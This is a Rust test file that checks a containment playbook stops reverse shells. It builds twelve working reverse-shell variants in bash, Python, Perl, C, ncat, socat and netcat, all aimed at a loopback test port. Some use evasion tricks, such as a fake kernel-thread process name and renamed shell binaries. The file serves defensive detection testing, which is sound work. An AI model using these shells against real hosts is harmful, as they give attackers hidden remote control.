//! Reverse shells: whatever made the connection, and whatever stands between it and the shell.

use super::attack::{Place, Threat, Variant, words};
use super::tools::{compile, copy, script, tool, write};

#[test]
fn a_reverse_shell_is_stopped_however_it_is_made() {
    let plain = |name, prepare| Variant { name, prepare, opening: None };
    Threat {
        playbook: "contain-reverse-shell",
        ports: &[],
        variants: vec![
            plain("bash-device", bash_device),
            plain("python-socket", python_socket),
            plain("perl-socket", perl_socket),
            plain("c-socket", c_socket),
            plain("python-terminal", python_terminal),
            plain("python-pipes", python_pipes),
            plain("ncat-exec", ncat_exec),
            plain("socat-unix-socket", socat_unix_socket),
            plain("socat-terminal", socat_terminal),
            plain("fifo-netcat", fifo_netcat),
            Variant { name: "read-loop", prepare: read_loop, opening: Some("id\n") },
            Variant { name: "renamed-shell", prepare: renamed_shell, opening: Some("id\n") },
        ],
    }
    .is_stopped();
}

/// A script that a tool runs.
fn run(place: &Place, by: &str, name: &str, text: &str) -> Vec<String> {
    let path = write(&place.dir, name, text);
    words(&[&tool(by), path.to_str().unwrap()])
}

fn bash_device(place: &Place) -> Vec<String> {
    run(place, "bash", "a.sh", "bash -i >& /dev/tcp/127.0.0.1/$PORT 0>&1\n")
}

fn python_socket(place: &Place) -> Vec<String> {
    run(
        place,
        "python3",
        "a.py",
        "import os, socket, subprocess\n\
         s = socket.create_connection((\"127.0.0.1\", int(os.environ[\"PORT\"])))\n\
         for fd in 0, 1, 2: os.dup2(s.fileno(), fd)\n\
         subprocess.call([\"/bin/sh\", \"-i\"])\n",
    )
}

fn perl_socket(place: &Place) -> Vec<String> {
    run(
        place,
        "perl",
        "a.pl",
        "use Socket;\n\
         socket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp') || 6);\n\
         connect(S, sockaddr_in($ENV{PORT}, inet_aton('127.0.0.1'))) or die;\n\
         open(STDIN, '<&S'); open(STDOUT, '>&S'); open(STDERR, '>&S');\n\
         exec('/bin/bash');\n",
    )
}

fn c_socket(place: &Place) -> Vec<String> {
    let text = "#include <arpa/inet.h>\n#include <stdlib.h>\n#include <sys/socket.h>\n#include <unistd.h>\n\
        int main(void) {\n\
        struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(atoi(getenv(\"PORT\"))) };\n\
        int s = socket(AF_INET, SOCK_STREAM, 0);\n\
        to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);\n\
        if (connect(s, (void *)&to, sizeof(to))) return 1;\n\
        for (int fd = 0; fd < 3; fd++) dup2(s, fd);\n\
        return execl(\"/bin/sh\", \"[kworker/0:2]\", (char *)0);\n}\n";
    words(&[compile(&place.dir, "a", text).to_str().unwrap()])
}

/// The socket stays with Python; the shell has a terminal.
fn python_terminal(place: &Place) -> Vec<String> {
    run(
        place,
        "python3",
        "a.py",
        "import os, pty, select, socket\n\
         s = socket.create_connection((\"127.0.0.1\", int(os.environ[\"PORT\"])))\n\
         os.set_inheritable(s.fileno(), False)\n\
         pid, master = pty.fork()\n\
         if pid == 0: os.execv(\"/bin/bash\", [\"bash\"])\n\
         while True:\n\
         \x20   ready, _, _ = select.select([s, master], [], [])\n\
         \x20   for source, sink in ((s, master), (master, s.fileno())):\n\
         \x20       if source in ready:\n\
         \x20           data = os.read(source if isinstance(source, int) else source.fileno(), 4096)\n\
         \x20           if not data: raise SystemExit\n\
         \x20           os.write(sink, data)\n",
    )
}

fn python_pipes(place: &Place) -> Vec<String> {
    run(
        place,
        "python3",
        "a.py",
        "import os, socket, subprocess, threading\n\
         s = socket.create_connection((\"127.0.0.1\", int(os.environ[\"PORT\"])))\n\
         p = subprocess.Popen([\"/bin/sh\"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)\n\
         def inward():\n\
         \x20   while data := s.recv(4096):\n\
         \x20       p.stdin.write(data); p.stdin.flush()\n\
         threading.Thread(target=inward, daemon=True).start()\n\
         while data := os.read(p.stdout.fileno(), 4096): s.sendall(data)\n",
    )
}

fn ncat_exec(place: &Place) -> Vec<String> {
    words(&[&tool("ncat"), "127.0.0.1", &place.port.to_string(), "-e", "/bin/sh"])
}

fn socat_unix_socket(place: &Place) -> Vec<String> {
    words(&[&tool("socat"), &format!("TCP:127.0.0.1:{}", place.port), "EXEC:/bin/sh"])
}

/// The shell is a copy under another name, so that no command line tells.
fn socat_terminal(place: &Place) -> Vec<String> {
    let shell = copy("/bin/bash".as_ref(), &place.dir.join("bin/bash"));
    let link = place.dir.join("tool");
    std::os::unix::fs::symlink(shell, &link).unwrap();
    words(&[&tool("socat"), &format!("TCP:127.0.0.1:{}", place.port), &format!("EXEC:{},pty,stderr", link.display())])
}

/// The shell is there before the connection is.
fn fifo_netcat(place: &Place) -> Vec<String> {
    let netcat = tool("nc.openbsd");
    run(place, "bash", "a.sh", &format!("mkfifo f\ncat f | sh -i 2>&1 | {netcat} 127.0.0.1 $PORT > f\n"))
}

/// No name and no argument tells; what it runs does.
fn renamed_shell(place: &Place) -> Vec<String> {
    copy("/bin/bash".as_ref(), &place.dir.join("updated"));
    let launcher =
        script(&place.dir, "a.sh", "#!/bin/bash\nexec 3<>/dev/tcp/127.0.0.1/$PORT\nexec ./updated <&3 >&3 2>&3\n");
    words(&[&launcher])
}

/// The shell that runs the script reads what came line by line, and has another run it.
fn read_loop(place: &Place) -> Vec<String> {
    let text = "exec 5<>/dev/tcp/127.0.0.1/$PORT\nwhile read -r line <&5; do sh -c \"$line\" >&5 2>&5; done\n";
    run(place, "bash", "a.sh", text)
}
